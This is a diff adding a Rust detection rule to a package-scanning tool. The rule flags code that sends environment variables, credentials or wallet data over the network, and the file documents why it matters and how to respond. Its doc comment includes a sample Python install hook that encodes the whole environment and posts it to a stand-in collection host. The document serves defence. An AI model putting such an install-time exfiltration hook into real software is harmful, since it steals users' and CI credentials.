@@ -1,0 +1,74 @@
+//! # Environment or secret data leaves over the network
+//!
+//! ## What it finds
+//! A value that holds environment variables, credential files or a user's other secrets reaches an HTTP, DNS, mail
+//! or socket sink, directly or through encoders, containers and calls.
+//!
+//! ## Why it matters
+//! It is how most malicious packages earn their keep. `ctx` (PyPI, May 2022) posted AWS keys from the environment
+//! on import; the Shai-Hulud worm (npm, September 2025) searched the environment and home folder for tokens and
+//! published itself with them. CI machines hold the most powerful credentials of an organisation in exactly these
+//! variables.
+//!
+//! ## Example
+//! ```python
+//! class AfterInstall(install):
+//!     def run(self):
+//!         blob = base64.b64encode(json.dumps(dict(os.environ)).encode())
+//!         urlopen(Request("https://collect.example.invalid/c", data=blob))
+//! ```
+//!
+//! ## What to do
+//! Do not install the release. If it was installed, rotate every credential that the environment of that machine or
+//! job held, and look for the destination in the network logs.
+//!
+//! ## When it is wrong
+//! Clients that read *one named* variable to authenticate to their own service are not reported when the code only
+//! runs when called: the token flows into a request, which is what it is for. Crash reporters and telemetry that
+//! send selected variables are reported with less weight; look at the evidence.
+use foretaste_engine::prelude::*;
+
+declare_rule! {
+    SecretsToNetwork,
+    id: "secrets-to-network",
+    title: "sends secrets over the network",
+    group: Chain,
+    severity: Critical,
+    confidence: High,
+    needs: [Code],
+    tags: ["T1041", "T1552.001", "AV-001"],
+    since: "0.1.0",
+}
+
+impl ChainRule for SecretsToNetwork {
+    fn judge(&self, chain: &Chain<'_>, _scene: &Scene<'_>) -> Option<Finding> {
+        let (source, sink) = (chain.source()?, chain.sink()?);
+        if !sink.capability.is_network_sink() || chain.flow.link == FlowLink::Scope {
+            return None;
+        }
+        let context = chain.context();
+        let what = match source.capability {
+            Capability::EnvironmentReadAll => "the whole environment",
+            Capability::CredentialStore | Capability::CredentialToken => "stored credentials",
+            Capability::Wallet => "wallet data",
+            Capability::EnvironmentRead if context < ExecutionContext::Entry => {
+                "environment variables"
+            }
+            _ => return None,
+        };
+        let mut finding = self
+            .finding(format!(
+                "sends {what} over the network {}",
+                context.phrase()
+            ))
+            .context(context);
+        if source.capability == Capability::EnvironmentRead {
+            // one named variable at import time may still be a token for the package's own service
+            finding = finding
+                .severity(Severity::High)
+                .confidence(Confidence::Medium);
+        }
+        finding.evidence = chain.evidence(|step| step.api.to_string());
+        Some(finding)
+    }
+}
